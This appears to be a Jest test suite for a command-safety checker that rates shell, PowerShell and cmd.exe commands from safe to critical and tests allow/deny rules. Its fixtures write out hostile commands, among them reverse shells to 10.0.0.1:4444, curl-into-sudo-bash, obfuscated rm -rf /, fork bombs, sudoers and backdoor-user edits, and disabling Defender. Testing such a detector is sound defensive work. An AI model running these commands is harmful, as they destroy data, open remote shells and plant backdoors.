// assessCommand read as a specification: what it rates, why, and what each policy does with it.
import { assessCommand, decide } from '../../lib/safety';
import type { AssessOptions, RiskLevel } from '../../lib/safety';

const level = (command: string, options?: AssessOptions): RiskLevel => assessCommand(command, options).level;
const rules = (command: string, options?: AssessOptions): string[] => assessCommand(command, options).reasons.map((r) => r.rule);

describe('the result', () => {
  test('a harmless command is safe, allowed, with no reasons', () => {
    expect(assessCommand('ls -la')).toEqual({ level: 'safe', reasons: [], decision: 'allowed', policy: 'moderate', effects: [] });
  });

  test('each reason has a rule id, a message, a level and the span it is about', () => {
    const command = 'cd /tmp && rm -rf /';
    const [reason] = assessCommand(command).reasons;
    expect(reason).toEqual({ rule: 'fs.rm-recursive-critical', message: expect.stringContaining('"/"'), level: 'critical', span: { start: 18, end: 19 } });
    expect(command.slice(reason.span.start, reason.span.end)).toBe('/');
  });

  test('the level is the highest of the reasons, and reasons are sorted highest first', () => {
    const a = assessCommand('git reset --hard; rm -rf /');
    expect(a.level).toBe('critical');
    expect(a.reasons.map((r) => r.level)).toEqual(['critical', 'high']);
  });

  test('spans of code nested in a string point at the string', () => {
    const command = "bash -c 'rm -rf ~'";
    const [reason] = assessCommand(command).reasons;
    expect(command.slice(reason.span.start, reason.span.end)).toBe("'rm -rf ~'");
  });
});

describe('policies', () => {
  test.each([
    ['strict', 'safe', 'allowed'],
    ['strict', 'moderate', 'needsConfirmation'],
    ['strict', 'high', 'blocked'],
    ['strict', 'critical', 'blocked'],
    ['moderate', 'safe', 'allowed'],
    ['moderate', 'moderate', 'allowed'],
    ['moderate', 'high', 'needsConfirmation'],
    ['moderate', 'critical', 'blocked'],
    ['permissive', 'high', 'allowed'],
    ['permissive', 'critical', 'needsConfirmation'],
  ] as const)('%s policy: %s is %s', (policy, lvl, decision) => {
    expect(decide(lvl, policy)).toBe(decision);
  });

  test('the policy defaults to moderate and is reported back', () => {
    expect(assessCommand('rm -rf /').policy).toBe('moderate');
    expect(assessCommand('rm -rf /', { policy: 'permissive' })).toMatchObject({ policy: 'permissive', decision: 'needsConfirmation' });
  });

  test('an unknown policy is a usage error naming the choices', () => {
    expect(() => assessCommand('ls', { policy: 'lenient' as never })).toThrow(/Unknown safety policy "lenient"/);
  });

  test('an unknown shell is a usage error naming the choices', () => {
    expect(() => assessCommand('ls', { shell: 'tcl' })).toThrow(/Unknown shell "tcl"/);
  });
});

describe('user rules', () => {
  test('an allow rule lets a command through and says so', () => {
    const a = assessCommand('rm -rf ./build', { rules: { allow: ['rm -rf ./build'] } });
    expect(a.level).toBe('safe');
    expect(a.reasons.map((r) => r.rule)).toEqual(['user.allow']);
  });

  test('an allow rule matches the whole command, not a command that starts with it', () => {
    expect(level('rm -rf src /home/dev/docs', { rules: { allow: ['rm -rf src'] } })).toBe('high');
    expect(level('git push --force origin main', { rules: { allow: ['git push'] } })).toBe('high');
    expect(level('rm -rf ~', { policy: 'strict', rules: { allow: ['rm'] } })).toBe('critical');
  });

  test('a word that is only * stands for any further words', () => {
    expect(level('git push --force origin main', { rules: { allow: ['git push *'] } })).toBe('safe');
    expect(level('git push', { rules: { allow: ['git push *'] } })).toBe('safe');
  });

  test('* inside a word matches within that one word', () => {
    expect(level('rm -rf ./dist/cache', { rules: { allow: ['rm -rf ./dist/*'] } })).toBe('safe');
    expect(level('rm -rf ./src', { rules: { allow: ['rm -rf ./dist/*'] } })).toBe('high');
    expect(level('rm -rf ./dist/cache ./src', { rules: { allow: ['rm -rf ./dist/*'] } })).toBe('high');
  });

  test('no allow rule lowers a critical finding', () => {
    expect(assessCommand('rm -rf /', { policy: 'permissive', rules: { allow: ['*'] } }).level).toBe('critical');
    expect(level("bash -c 'rm -rf /'", { rules: { allow: ['bash *'] } })).toBe('critical');
  });

  test('a deny rule also covers what follows it', () => {
    expect(assessCommand('terraform destroy -auto-approve', { rules: { deny: ['terraform destroy'] } }).decision).toBe('blocked');
    expect(assessCommand('terraform plan', { rules: { deny: ['terraform destroy'] } }).decision).toBe('allowed');
  });

  test('rules match the command after wrappers, quotes and paths are resolved', () => {
    expect(level("sudo /bin/rm -rf './build'", { rules: { allow: ['rm -rf ./build'] } })).toBe('safe');
  });

  test('a deny rule blocks under every policy', () => {
    const a = assessCommand('git push origin main', { policy: 'permissive', rules: { deny: ['git push'] } });
    expect(a.decision).toBe('blocked');
    expect(a.reasons.map((r) => r.rule)).toContain('user.deny');
  });

  test('deny wins over allow', () => {
    expect(assessCommand('npm publish', { rules: { allow: ['npm *'], deny: ['npm publish'] } }).decision).toBe('blocked');
  });

  test('? matches one character', () => {
    expect(level('rm -rf ./b1', { rules: { allow: ['rm -rf ./b?'] } })).toBe('safe');
    expect(level('rm -rf ./b12', { rules: { allow: ['rm -rf ./b?'] } })).toBe('high');
  });

  test('a pattern full of stars matched against a long command answers quickly and correctly', () => {
    const command = 'echo ' + 'a'.repeat(60_000);
    expect(assessCommand(command, { rules: { deny: ['*a*a*a*a*a*a*a*b'] } }).decision).toBe('allowed');
  });

  test('an allow rule covers only the matching command, not the rest of the line', () => {
    expect(level('rm -rf ./build && rm -rf /', { rules: { allow: ['rm -rf ./build'] } })).toBe('critical');
  });
});

describe('resolving what actually runs', () => {
  test.each(['r""m -rf /', "'r'm -rf /", '\\rm -rf /', '"rm" -rf /', '/bin/rm -rf /', '/usr/bin/../bin/rm -rf /', 'RM -rf /'])('%s is rm -rf /', (command) => {
    expect(level(command)).toBe('critical');
  });

  test('variables assigned earlier in the line are substituted', () => {
    expect(level('T=/; rm -rf $T')).toBe('critical');
    expect(level('export T="$HOME"; rm -rf "$T"')).toBe('critical');
  });

  test('a variable assigned for the command itself is not visible in its own arguments (as in bash)', () => {
    expect(level('T=/ rm -rf ./build$T')).toBe('high');
  });

  test('paths are normalised before they are judged', () => {
    expect(level('rm -rf /tmp/../etc')).toBe('critical');
    expect(level('rm -rf /usr/local/..')).toBe('critical');
    expect(level('rm -rf ~/..')).toBe('critical');
  });

  test('$HOME, ${HOME} and ~ are the home directory', () => {
    for (const target of ['~', '~/', '$HOME', '${HOME}', '"$HOME"', '~/*']) expect(level(`rm -rf ${target}`)).toBe('critical');
  });

  test('$TMPDIR and ${TMPDIR:-/tmp} are temporary directories', () => {
    expect(level('rm -rf "$TMPDIR/build"')).toBe('moderate');
    expect(level('rm -rf ${TMPDIR:-/tmp}/build')).toBe('moderate');
  });

  test('unquoted $IFS and variables holding spaces split into words, as in bash', () => {
    expect(level('rm${IFS}-rf${IFS}/')).toBe('critical');
    expect(level('X="-rf /"; rm $X')).toBe('critical');
    expect(level('X="-rf /"; echo "$X"')).toBe('safe');
  });

  test('brace expansion makes several words', () => {
    expect(level('rm -rf /{etc,usr}')).toBe('critical');
    expect(level('cp file{,.bak}')).toBe('moderate');
  });

  test('ANSI-C quoting is decoded', () => {
    expect(level("$'\\x72\\x6d' -rf /")).toBe('critical');
  });

  test('a command substitution whose output is known is resolved: $(echo rm) -rf /', () => {
    expect(level('$(echo rm) -rf /')).toBe('critical');
  });

  test('Unicode dashes and case do not hide an option', () => {
    expect(level('git reset \u2010\u2010hard')).toBe('high');
    expect(level('git RESET --HARD')).toBe('high');
  });
});

describe('wrappers', () => {
  test.each([
    'sudo rm -rf /',
    'sudo -u root -E rm -rf /',
    'doas rm -rf /',
    'env -i PATH=/bin rm -rf /',
    'command rm -rf /',
    'builtin command rm -rf /',
    'exec rm -rf /',
    'nohup rm -rf / &',
    'nice -n 19 rm -rf /',
    'timeout -s KILL 10 rm -rf /',
    'time -p rm -rf /',
    'busybox rm -rf /',
    'sudo env nice nohup timeout 5 rm -rf /',
    "env -S 'rm -rf /'",
    "su -c 'rm -rf /'",
    "watch -n 1 'rm -rf /'",
  ])('%s is unwrapped to rm -rf /', (command) => {
    expect(level(command)).toBe('critical');
  });

  test('xargs passes what it reads on to the command', () => {
    expect(level('echo / | xargs rm -rf')).toBe('critical');
    expect(level('find . -name "*.o" | xargs rm -f')).toBe('high'); // many files, nothing asks: like find -delete
    expect(level('echo a.o b.o | xargs rm')).toBe('moderate');
  });

  test('command -v only looks a program up', () => {
    expect(level('command -v rm')).toBe('safe');
  });
});

describe('nested code', () => {
  test.each([
    ["bash -c 'rm -rf /'", 'bash -c'],
    ['sh -c "rm -rf /"', 'sh -c'],
    ['zsh -lc "rm -rf /"', 'combined -lc'],
    ['eval "rm -rf /"', 'eval'],
    ["bash <<< 'rm -rf /'", 'here-string into a shell'],
    ['bash <<EOF\nrm -rf /\nEOF', 'heredoc into a shell'],
    ["echo 'rm -rf /' | sh", 'pipe into a shell'],
    ["printf '%s\\n' 'rm -rf /' | bash -s", 'printf into bash -s'],
    ['echo $(rm -rf /)', '$(...) runs even as an argument'],
    ['echo `rm -rf /`', 'backticks'],
    ['cat <<EOF\n$(rm -rf /)\nEOF', '$(...) inside an unquoted heredoc'],
    ['echo cm0gLXJmIC8K | base64 -d | sh', 'base64 decoded into a shell'],
    ['base64 -d <<< cm0gLXJmIC8K | bash', 'base64 here-string decoded into bash'],
    ['bash -c "$(cat <<EOF\nrm -rf /\nEOF\n)"', 'heredoc through $(cat) into bash -c'],
    ['ssh host "rm -rf /"', 'a remote command over ssh'],
    ['echo "rm -rf /" | at now', 'at'],
    ['(crontab -l; echo "* * * * * rm -rf /") | crontab -', 'a cron line installed from stdin'],
    ["find / -exec rm -rf {} +", 'find -exec'],
    ['$(which rm) -rf /', 'the program found by which'],
    ['echo "rm -rf /" > x.sh && bash x.sh', 'a script written earlier in the line'],
    ['cat > run.sh <<EOF\nrm -rf /\nEOF\nchmod +x run.sh; ./run.sh', 'a script written by a heredoc, then run by path'],
    ['echo "rm -rf /" | $SHELL', 'the user\'s $SHELL'],
    ["awk 'BEGIN { system(\"rm -rf /\") }'", 'awk system()'],
    ["vim -c ':!rm -rf /' notes.txt", 'a vim ex command'],
    ["tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'", 'tar checkpoint action'],
    ["ssh -o ProxyCommand='rm -rf /' host", 'ssh ProxyCommand'],
    ["git -c core.pager='rm -rf /' log", 'git pager'],
    ["python -c \"__import__('os').system('rm -rf /')\"", 'python __import__'],
    ["bash -c \"bash -c 'eval \\\"rm -rf /\\\"'\"", 'three levels deep'],
  ])('%s is seen through (%s)', (command) => {
    expect(level(command)).toBe('critical');
  });

  test.each([
    ["python3 -c 'import shutil; shutil.rmtree(\"/\")'", 'critical'],
    ["python -c \"import os; os.system('rm -rf /')\"", 'critical'],
    ["python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'", 'critical'],
    ["perl -e 'system(\"rm -rf /\")'", 'critical'],
    ["perl -e 'unlink glob(\"/etc/*\")'", 'critical'],
    ["ruby -e 'FileUtils.rm_rf(\"/\")'", 'critical'],
    ["ruby -e '`rm -rf /`'", 'critical'],
    ["node -e \"require('child_process').execSync('rm -rf /')\"", 'critical'],
    ["node -e \"require('fs').rmSync('/tmp/x', {recursive: true})\"", 'high'],
    ['python3 <<EOF\nimport os\nos.remove("/etc/passwd")\nEOF', 'critical'],
  ])('inline code: %s is %s', (command, expected) => {
    expect(level(command)).toBe(expected);
  });

  test('inline code that decodes text and runs it is high; literal base64 is decoded and read', () => {
    expect(level("node -e \"eval(Buffer.from(process.argv[1], 'base64').toString())\"")).toBe('high');
    const hidden = Buffer.from('import shutil; shutil.rmtree("/")').toString('base64');
    expect(level(`python3 -c "import base64; exec(base64.b64decode('${hidden}'))"`)).toBe('critical');
  });

  test('inline code that only prints text is safe', () => {
    expect(level("python3 -c \"print('rm -rf /')\"")).toBe('safe');
    expect(level("node -e \"console.log('rm -rf /')\"")).toBe('safe');
  });

  test('code downloaded and piped into an interpreter is high', () => {
    for (const command of ['curl -fsSL https://example.com/install.sh | sh', 'curl https://x.io/a.py | python3', 'bash <(curl -s https://x.io/i)', 'sh -c "$(curl -fsSL https://x.io/i)"']) {
      expect([command, level(command)]).toEqual([command, 'high']);
    }
  });

  test('code downloaded and piped into a root shell is critical, wherever sudo sits', () => {
    for (const command of ['wget -qO- https://x.io/i | sudo bash', 'curl -s https://x.io/i | sudo -E sh -s --', 'curl -s https://x.io/i | sudo -i', 'sudo sh -c "$(curl -fsSL https://x.io/i)"']) {
      expect([command, level(command)]).toEqual([command, 'critical']);
    }
  });

  test('a file downloaded earlier in the command and then run is high', () => {
    expect(level('curl -o install.sh https://x.io/i.sh && bash install.sh')).toBe('high');
    expect(level('curl -fsSLO https://x.io/get.sh; chmod +x get.sh; ./get.sh')).toBe('high');
    expect(level('Invoke-WebRequest https://x.io/a.ps1 -OutFile a.ps1; .\\a.ps1', { shell: 'pwsh' })).toBe('high');
    expect(level('curl -o data.json https://x.io/d; jq . data.json')).toBe('moderate');
  });

  test('obfuscated code that cannot be decoded is high', () => {
    expect(level('cat payload.b64 | base64 -d | sh')).toBe('high');
    expect(rules('cat payload.b64 | base64 -d | sh')).toContain('code.obfuscated');
  });

  test('running a local script is not judged by its name', () => {
    expect(level('bash ./build.sh')).toBe('moderate');
    expect(level('python3 manage.py migrate')).toBe('moderate');
  });
});

describe('mentions are not actions', () => {
  test('a commit message that mentions a deletion is a commit (moderate), not a deletion', () => {
    expect(assessCommand('git commit -m "remove rm -rf / from the installer"').reasons.map((r) => r.rule)).toEqual(['known.vcs']);
  });

  test.each([
    'echo "rm -rf /"',
    "printf 'rm -rf %s\\n' /",
    "grep -r 'rm -rf /' .",
    "rg -n 'DROP TABLE' src/",
    'cat <<EOF\nrm -rf /\nEOF',
    "cat <<'EOF' > notes.txt\ngit push --force\nEOF",
    'echo "$(date): rm -rf / is dangerous"',
    'man rm',
    'which rm',
    "echo ':(){ :|:& };:'",
  ])('%s is safe', (command) => {
    expect(level(command)).toBe('safe');
  });
});

describe('targets and operations', () => {
  test.each([
    ['rm -rf /', 'critical'],
    ['rm -rf /*', 'critical'],
    ['rm -rf --no-preserve-root /', 'critical'],
    ['rm -rf /etc', 'critical'],
    ['rm -rf /var/lib', 'critical'],
    ['rm -rf /home/alice', 'critical'],
    ['rm -r /usr', 'critical'],
    ['rm -rf /var/log/nginx', 'high'],
    ['rm -rf ./src', 'high'],
    ['rm -rf ./build', 'high'],
    ['rm -r ./build', 'moderate'],
    ['rm -rf "$BUILD_DIR"/', 'critical'], // with BUILD_DIR empty or unset this is rm -rf /
    ['rm -rf "$BUILD_DIR"', 'high'],
    ['rm -r build', 'moderate'],
    ['rm -rf /tmp/build', 'moderate'],
    ['rm notes.txt', 'moderate'],
    ['rm /etc/passwd', 'critical'],
    ['find / -delete', 'critical'],
    ['find . -name "*.pyc" -delete', 'high'],
    ['find /tmp -name "*.pyc" -delete', 'moderate'],
    ['find . -delete', 'high'],
  ] as const)('deleting: %s is %s', (command, expected) => {
    expect(level(command)).toBe(expected);
  });

  test.each([
    ['mkfs.ext4 /dev/sda1', 'critical'],
    ['dd if=/dev/zero of=/dev/nvme0n1 bs=1M', 'critical'],
    ['dd if=image.iso of=./copy.iso', 'moderate'],
    ['shred -n 3 /dev/sdb', 'critical'],
    ['wipefs -a /dev/sdb', 'critical'],
    ['wipefs /dev/sdb', 'safe'],
    ['echo hi > /dev/sda', 'critical'],
    ['cat /dev/urandom > /dev/mem', 'critical'],
    ['echo hi > /dev/null', 'safe'],
    ['parted /dev/sda mklabel gpt', 'critical'],
  ] as const)('disks: %s is %s', (command, expected) => {
    expect(level(command)).toBe(expected);
  });

  test.each([
    ['chmod -R 777 /', 'critical'],
    ['chown -R nobody /etc', 'critical'],
    ['chmod 000 /etc/shadow', 'high'],
    ['chmod -R 755 ./public', 'moderate'],
    ['chmod -R 777 ./public', 'high'],
    ['chmod u+s /usr/bin/find', 'critical'],
    ['chmod u+s ./mytool', 'high'],
    ['chattr -R +i /etc', 'critical'],
    ['setfacl -R -m u:nobody:rwx /', 'critical'],
    ['setfacl -m u:bob:r notes.txt', 'moderate'],
  ] as const)('permissions: %s is %s', (command, expected) => {
    expect(level(command)).toBe(expected);
  });

  test.each([
    ['echo "" > /etc/passwd', 'critical'],
    ["echo 'me ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers", 'critical'],
    ['cp evil.conf /etc/ssh/sshd_config', 'critical'],
    ['echo 1 > /proc/sys/net/ipv4/ip_forward', 'high'],
    ['echo "ssh-rsa AAAA..." >> ~/.ssh/authorized_keys', 'high'],
    ['mv /etc /etc.bak', 'critical'],
    ['truncate -s 0 /var/log/syslog', 'high'],
    ['sed -i "s/a/b/" /etc/hosts', 'high'],
    ['sed -i "s/a/b/" /etc/fstab', 'critical'],
    ['echo "10.0.0.5 db" | sudo tee -a /etc/hosts', 'high'],
    ['echo hello > notes.txt', 'moderate'],
    ['echo hello > /dev/null', 'safe'],
  ] as const)('system files: %s is %s', (command, expected) => {
    expect(level(command)).toBe(expected);
  });

  test.each([
    ['usermod -aG sudo mallory', 'high'],
    ['useradd -o -u 0 backdoor', 'critical'],
    ['passwd -d root', 'critical'],
    ['passwd -d guest', 'high'],
    ['setcap cap_setuid+ep /usr/bin/python3', 'high'],
  ] as const)('privileges: %s is %s', (command, expected) => {
    expect(level(command)).toBe(expected);
  });

  test.each([
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'nc -e /bin/sh 10.0.0.1 4444',
    'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f',
    'socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr',
    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
    'exec 5<>/dev/tcp/10.0.0.1/4444',
  ])('reverse shell: %s is critical', (command) => {
    expect(level(command)).toBe('critical');
  });

  test.each([
    ':(){ :|:& };:',
    'bomb() { bomb | bomb & }; bomb',
    "perl -e 'fork while fork'",
    'echo c > /proc/sysrq-trigger',
    'kill -9 -1',
  ])('%s takes the machine down: critical', (command) => {
    expect(level(command)).toBe('critical');
  });

  test.each(['reboot', 'shutdown -h now', 'systemctl poweroff', 'init 0', 'sysctl -w kernel.panic=1', 'insmod ./rootkit.ko', 'iptables -F', 'crontab -r'])('%s is high', (command) => {
    expect(level(command)).toBe('high');
  });
});

describe('tools with risky verbs', () => {
  test.each([
    ['git reset --hard HEAD~3', 'high'],
    ['git clean -fdx', 'high'],
    ['git clean -n', 'safe'],
    ['git push --force origin main', 'high'],
    ['git push origin +main', 'high'],
    ['git push --force-with-lease', 'moderate'],
    ['git branch -D old', 'high'],
    ['git branch -d old', 'moderate'],
    ['git checkout -- .', 'high'],
    ['git checkout -b feature', 'moderate'],
    ['git restore --staged file.txt', 'moderate'],
    ['git restore file.txt', 'high'],
    ['git stash drop', 'high'],
    ['git -C /repo reset --hard', 'high'],
  ] as const)('git: %s is %s', (command, expected) => {
    expect(level(command)).toBe(expected);
  });

  test.each([
    ['docker system prune -a --volumes', 'high'],
    ['docker system prune', 'high'],
    ['docker rm -f web', 'high'],
    ['docker rm web', 'moderate'],
    ['docker stop $(docker ps -q)', 'high'],
    ['docker volume rm pgdata', 'high'],
    ['docker run --privileged -it ubuntu', 'high'],
    ['docker run -v /:/host ubuntu', 'high'],
    ['docker ps -a', 'safe'],
    ['kubectl delete namespace prod', 'critical'],
    ['kubectl get pods -A', 'safe'],
    ['kubectl delete pod x --dry-run=client', 'safe'],
    ['helm uninstall my-release', 'high'],
    ['terraform destroy', 'critical'], // its y/N prompt is not counted as a confirmation
    ['terraform apply -auto-approve', 'high'],
    ['terraform plan', 'safe'],
  ] as const)('containers and infrastructure: %s is %s', (command, expected) => {
    expect(level(command)).toBe(expected);
  });

  test.each([
    ['aws s3 rb s3://bucket --force', 'critical'],
    ['aws ec2 terminate-instances --instance-ids i-123', 'high'],
    ['aws s3 ls s3://bucket', 'safe'],
    ['gcloud projects delete my-project', 'critical'],
    ['gcloud compute instances list', 'safe'],
    ['az group delete --name prod --yes', 'critical'],
    ['az vm list', 'safe'],
    ['aws s3 sync ./site s3://bucket --delete', 'high'],
    ['aws s3 sync ./site s3://bucket --delete --dryrun', 'safe'],
  ] as const)('cloud CLIs: %s is %s', (command, expected) => {
    expect(level(command)).toBe(expected);
  });

  test.each([
    ['psql -c "DROP DATABASE prod"', 'critical'],
    ['psql -c "TRUNCATE orders"', 'high'],
    ['mysql -e "DELETE FROM users"', 'high'],
    ['mysql -e "DELETE FROM users WHERE id = 4"', 'moderate'],
    ['psql -c "UPDATE users SET admin = true"', 'high'],
    ['psql -c "SELECT * FROM users"', 'safe'],
    ["psql -c \"SELECT 'DROP TABLE x'\"", 'safe'],
    ['echo "DROP TABLE users;" | psql mydb', 'high'],
    ['psql mydb <<EOF\nDELETE FROM sessions;\nEOF', 'high'],
    ['sqlite3 app.db "DROP TABLE users"', 'high'],
    ['redis-cli FLUSHALL', 'critical'],
    ['redis-cli -h cache -n 2 flushdb', 'critical'],
    ['redis-cli GET key', 'safe'],
    ['mongosh --eval "db.dropDatabase()"', 'critical'],
    ['mongosh --eval "db.users.deleteMany({})"', 'high'],
    ['mongosh --eval "db.users.find()"', 'safe'],
    ['dropdb prod', 'critical'],
    ['dropdb --interactive prod', 'critical'],
    ['psql -c "DROP TABLE users"', 'high'],
  ] as const)('databases: %s is %s', (command, expected) => {
    expect(level(command)).toBe(expected);
  });

  test('HTTP DELETE requests are high', () => {
    expect(level("curl -X DELETE 'http://localhost:9200/logs'")).toBe('high');
    expect(level("curl -X GET 'http://localhost:9200/logs'")).toBe('safe');
  });

  test('a tool we do not know is read with the same grammar: a delete verb is high, on a whole resource critical', () => {
    expect(level('frobctl widget delete w1')).toBe('high');
    expect(level('frobctl cluster delete prod')).toBe('critical');
    expect(level('frobctl apps:destroy prod')).toBe('critical');
    expect(level('frobctl cluster list')).toBe('moderate');
  });

  test('a file name that starts with a verb is not a verb', () => {
    expect(level('frobctl delete.txt')).toBe('moderate');
    expect(level('borg create repo::archive ./data')).toBe('moderate');
  });

  test('publishing a release cannot be taken back: high', () => {
    expect(level('npm publish')).toBe('high');
    expect(level('./gradlew publish')).toBe('high');
    expect(level('mvn deploy')).toBe('high');
  });

  test('rotating a key breaks whatever still uses the old one: high', () => {
    expect(level('stripe api_keys roll rk_live_123')).toBe('high');
  });

  test('stopping a service is high, restarting it moderate', () => {
    expect(level('systemctl stop nginx')).toBe('high');
    expect(level('service nginx stop')).toBe('high');
    expect(level('systemctl restart nginx')).toBe('moderate');
  });

  test('SQL typed straight into the shell is read as SQL', () => {
    expect(level('DROP TABLE users;')).toBe('high');
    expect(level('TRUNCATE TABLE users;')).toBe('high');
    expect(level('truncate -s 0 app.log')).toBe('moderate');
  });

  test('copying onto system paths of a remote host is judged like a local copy', () => {
    expect(level('scp passwd root@server:/etc/passwd')).toBe('critical');
    expect(level('scp -r ./site user@host:/')).toBe('high');
    expect(level('scp notes.txt user@host:backups/')).toBe('moderate');
  });
});

describe('PowerShell', () => {
  const pwsh = { shell: 'pwsh' };
  test.each([
    ['Remove-Item -Recurse -Force C:\\', 'critical'],
    ['Remove-Item -Path $env:SystemRoot -Recurse -Force', 'critical'],
    ['rm -r -fo ~', 'critical'],
    ['Remove-Item .\\src -Recurse -Force', 'high'],
    ['Remove-Item $env:TEMP\\cache -Recurse', 'moderate'],
    ['Remove-Item notes.txt', 'moderate'],
    ['Format-Volume -DriveLetter D', 'critical'],
    ['Clear-Disk -Number 1 -RemoveData', 'critical'],
    ['Stop-Computer -Force', 'high'],
    ['iwr https://x.io/a.ps1 | iex', 'high'],
    ['Invoke-Expression "Remove-Item -Recurse -Force C:\\Windows"', 'critical'],
    ['vssadmin delete shadows /all /quiet', 'critical'],
    ['Set-ExecutionPolicy Unrestricted', 'high'],
    ['Set-MpPreference -DisableRealtimeMonitoring $true', 'critical'],
    ['Add-MpPreference -ExclusionPath C:\\tools', 'high'],
    ['Get-ChildItem C:\\Users | Sort-Object Length', 'safe'],
    ['Write-Output "Remove-Item -Recurse C:\\"', 'safe'],
    ['git reset --hard', 'high'],
    ['Get-Process | Stop-Process -Force; Remove-Item -Recurse -Force C:\\', 'critical'],
    ['$p = "C:\\Windows"; Remove-Item $p -Recurse -Force', 'critical'],
    ['Get-ChildItem -Path C:\\ -Recurse | Remove-Item -Force -Recurse', 'critical'],
    ['Get-Process | Where-Object { $_.CPU -gt 100 }', 'safe'],
    ['"rm -rf /" | Out-File notes.txt', 'moderate'],
    ['Stop-Service -Name WinDefend -Force', 'critical'],
    ['Stop-Service -Name Spooler', 'high'],
  ] as const)('%s is %s', (command, expected) => {
    expect(level(command, pwsh)).toBe(expected);
  });

  test('an encoded command is decoded and judged', () => {
    const encoded = Buffer.from('Remove-Item -Recurse -Force C:\\Windows', 'utf16le').toString('base64');
    expect(level(`powershell -NoProfile -EncodedCommand ${encoded}`)).toBe('critical');
  });

  test('a script block is code that runs', () => {
    expect(level('Get-ChildItem | ForEach-Object { Remove-Item -Recurse -Force C:\\ }', pwsh)).toBe('critical');
  });

  test('an unterminated string could not be parsed: high', () => {
    expect(assessCommand("Remove-Item 'C:\\x", pwsh)).toMatchObject({ level: 'high', reasons: [expect.objectContaining({ rule: 'parse.failed' })] });
  });
});

describe('cmd.exe', () => {
  const cmd = { shell: 'cmd' };
  test.each([
    ['rd /s /q C:\\', 'critical'],
    ['del /s /q /f C:\\Windows\\*', 'critical'],
    ['rmdir /s /q %USERPROFILE%', 'critical'],
    ['del notes.txt', 'moderate'],
    ['format D: /q', 'critical'],
    ['if exist docs rd /s /q docs', 'high'],
    ['echo rd /s /q C:\\', 'safe'],
    ['net localgroup administrators mallory /add', 'high'],
    ['cmd /c "rd /s /q C:\\"', 'critical'],
    ['dir & rd /s /q C:\\', 'critical'],
    ['for /r %i in (*.log) do del %i', 'moderate'],
  ] as const)('%s is %s', (command, expected) => {
    expect(level(command, cmd)).toBe(expected);
  });

  test('cmd /c from bash is judged as cmd.exe code', () => {
    expect(level('cmd.exe /c "rd /s /q C:\\Windows"')).toBe('critical');
  });
});

describe('bad input is never silently safe', () => {
  test('a command the parser rejects is high with "could not parse"', () => {
    const a = assessCommand("echo 'unterminated");
    expect(a.level).toBe('high');
    expect(a.reasons[0]).toMatchObject({ rule: 'parse.failed', message: expect.stringMatching(/could not parse/i) });
  });

  test('what can be read of an unparseable command is still judged', () => {
    expect(level("rm -rf / && echo 'oops")).toBe('critical');
  });

  test('over 64 KiB is high, not parsed', () => {
    const a = assessCommand('echo ' + 'x'.repeat(64 * 1024));
    expect(a).toMatchObject({ level: 'high', reasons: [expect.objectContaining({ rule: 'input.too-long' })] });
  });

  test('exactly 64 KiB is still assessed', () => {
    const command = 'echo ' + 'x'.repeat(64 * 1024 - 5);
    expect(level(command)).toBe('safe');
  });

  test('a NUL byte is high', () => {
    expect(assessCommand('ls\0rm -rf /').reasons[0]).toMatchObject({ rule: 'input.nul-byte', level: 'high', span: { start: 2, end: 3 } });
  });

  test('a lone surrogate (not valid UTF-8 text) is high', () => {
    expect(assessCommand('echo \ud800').reasons[0]).toMatchObject({ rule: 'input.invalid-utf8', level: 'high' });
  });

  test('invalid UTF-8 bytes decoded from a Buffer (U+FFFD) are high', () => {
    const fromBytes = Buffer.from([0x65, 0x63, 0x68, 0x6f, 0x20, 0xc3, 0x28]).toString('utf8');
    expect(assessCommand(fromBytes).reasons[0]).toMatchObject({ rule: 'input.invalid-utf8', level: 'high' });
  });

  test('something that is not a string is high, not a crash', () => {
    expect(assessCommand(42 as unknown as string)).toMatchObject({ level: 'high', reasons: [expect.objectContaining({ rule: 'input.not-text' })] });
  });

  test('syntax nested thousands of levels deep is high, not a stack overflow', () => {
    const a = assessCommand('$('.repeat(5000) + 'ls' + ')'.repeat(5000));
    expect(a.level).toBe('high');
    expect(a.reasons.map((r) => r.rule)).toContain('parse.too-deep');
  });

  test('a finding repeated many times is reported a few times, at its level', () => {
    const a = assessCommand('rm -rf /var/log/x; '.repeat(50));
    expect(a.level).toBe('high');
    expect(a.reasons.length).toBeLessThanOrEqual(5);
  });

  test('empty and blank commands are safe', () => {
    expect(level('')).toBe('safe');
    expect(level('   \n  ')).toBe('safe');
  });

  test('valid non-ASCII text is fine', () => {
    expect(level("echo '你好 🚀'")).toBe('safe');
  });
});
